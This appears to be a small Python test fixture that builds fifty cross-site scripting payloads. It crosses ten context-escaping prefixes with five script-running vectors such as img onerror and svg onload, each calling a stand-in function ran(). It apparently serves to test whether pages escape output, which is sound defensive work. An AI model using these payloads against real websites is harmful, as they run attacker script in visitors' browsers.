"""Fifty texts, each of which runs a script wherever a page prints it as it is."""

# What a text may stand in, and how it gets out of there.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></style></script>",
    "</option></select>",
    "</pre></code>",
    "-->",
    "</a></td></li>",
    "]]>",
)
SCRIPTS = (
    "<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<svg onload=ran()>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<details open ontoggle=ran()>",
)
PAYLOADS = tuple(out + script for out in WAYS_OUT for script in SCRIPTS)
